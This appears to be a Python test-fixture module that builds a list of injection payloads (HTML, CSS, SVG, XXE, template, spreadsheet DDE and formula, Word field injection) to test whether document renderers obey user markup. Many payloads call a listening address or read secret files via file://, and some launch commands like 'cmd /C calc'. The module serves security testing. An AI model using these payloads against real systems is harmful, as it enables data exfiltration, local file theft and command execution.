"""Markup that people might type, to see whether any of it is ever obeyed.

Each is of a kind of its own: it fetches, reads a file, runs or shows something when a
page, the PDF engine, a spreadsheet or a word processor believes it.
"""

from __future__ import annotations


def vectors(address: str, secret_file: str) -> list[str]:
    """List the markup, each pointing at a listening address or a secret file.

    Shape: at least sixty, no two alike; beside the secret file lies the same as .svg.
    """
    return [
        *_elements(address, secret_file),
        *_styles(address, secret_file),
        *_drawings(address, secret_file),
        *_ways_out(address, secret_file),
        *_disguises(address, secret_file),
        *_for_other_readers(address, secret_file),
    ]


def _elements(address: str, secret: str) -> list[str]:
    return [
        f'<img src="{address}/img">',
        f'<img src=x onerror="alert(1)" srcset="{address}/srcset 2x">',
        f'<img src="file://{secret}.svg">',
        f'<input type="image" src="{address}/input">',
        f'<video src="{address}/video" poster="{address}/poster"></video>',
        f'<object data="{address}/object"></object>',
        f'<object data="file://{secret}.svg" type="image/svg+xml"></object>',
        f'<embed src="{address}/embed">',
        f'<iframe src="{address}/iframe"></iframe>',
        f"<iframe srcdoc=\"<img src='{address}/srcdoc'>\"></iframe>",
        f'<link rel="stylesheet" href="{address}/sheet">',
        f'<link rel="attachment" href="file://{secret}">',
        f'<a rel="attachment" href="file://{secret}">x</a>',
        f'<script src="{address}/script"></script>',
        "<script>alert(document.domain)</script>",
        f'<meta http-equiv="refresh" content="0;url={address}/refresh">',
        f'<base href="{address}/base/"><img src="relative">',
        f'<form action="{address}/form"><button autofocus>x</button></form>',
    ]


def _styles(address: str, secret: str) -> list[str]:
    rules = [
        f'@import url("{address}/import");',
        f'p{{background:url("{address}/background")}}',
        f"p{{background:\\75 rl({address}/escaped)}}",
        f'p{{border:1px solid;border-image:url("{address}/border") 9}}',
        f'@font-face{{font-family:f;src:url("{address}/font")}}p{{font-family:f}}',
        f'@font-face{{font-family:g;src:url("file://{secret}")}}p{{font-family:g}}',
        f'li{{list-style-image:url("{address}/list")}}',
        f'p::before{{content:url("{address}/content")}}',
        f'p::before{{content:url("file://{secret}.svg")}}',
        f'@page{{background:url("{address}/page")}}',
        f'@page{{@top-center{{content:url("{address}/margin")}}}}',
        f'@media print{{p{{background:url("{address}/print")}}}}',
        f':root{{--x:url("{address}/variable")}}p{{background:var(--x)}}',
        f'p{{width:expression(alert(3));behavior:url("{address}/behavior")}}',
    ]
    return [f"<style>{rule}</style>" for rule in rules] + [
        f'<p style="background-image:url({address}/style)">x</p>',
    ]


def _drawings(address: str, secret: str) -> list[str]:
    inside = [
        f'<image href="{address}/svg" width="9" height="9"/>',
        f'<image xlink:href="{address}/xlink" width="9" height="9"/>',
        f'<image href="file://{secret}.svg" width="9" height="9"/>',
        f'<use href="{address}/use#x"/>',
        f'<style>@import "{address}/svg-import";</style>',
        f'<rect width="9" height="9" fill="url({address}/fill#x)"/>',
        f'<foreignObject><img src="{address}/foreign"></foreignObject>',
    ]
    nested = f"%3Cimage href=%22{address}/nested%22 width=%229%22 height=%229%22/%3E"
    drawing = f"%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E{nested}%3C/svg%3E"
    return [f'<svg width="9" height="9">{each}</svg>' for each in inside] + [
        f"<img src='data:image/svg+xml,{drawing}'>"
    ]


def _ways_out(address: str, secret: str) -> list[str]:
    return [
        "</p></section><h1>Mine</h1>",
        f'"><img src="{address}/quote">',
        f"'><img src='{address}/apostrophe'>",
        f'" style="background:url({address}/attribute)" x="',
        f'</style><img src="{address}/style-end">',
        f'--><img src="{address}/comment">',
        '"><svg onload=alert(4)>',
    ]


def _disguises(address: str, secret: str) -> list[str]:
    return [
        f'&#60;img src="{address}/number"&#62;',
        f'&lt;img src="{address}/name"&gt;',
        f"%3Cimg src=%22{address}/percent%22%3E",
        f'＜img src="{address}/wide"＞',
        f'<IMG\tSRC\t=\t"{address}/tabs">',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>&e;',
        f'<xi:include href="file://{secret}" parse="text"/>',
        f'<?xml-stylesheet href="{address}/instruction"?>',
        "javascript:alert(5)",
        "data:text/html,<script>alert(6)</script>",
        f"{address}/bare",
        f"file://{secret}",
        "bundled:../../fourpi/settings.py",
    ]


def _for_other_readers(address: str, secret: str) -> list[str]:
    return [
        "{{ 7|add:7 }} {% include 'reports/pdf/1/report.css' %} ${7*7} <%= 7 %>",
        f"![x]({address}/markdown) [x]: {address}/reference",
        f'=HYPERLINK("{address}/formula";"x")',
        f'=WEBSERVICE("{address}/webservice")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f'{{ INCLUDEPICTURE "{address}/word" }}',
        f'<w:hyperlink r:id="{address}/relation"><w:t>x</w:t></w:hyperlink>',
    ]
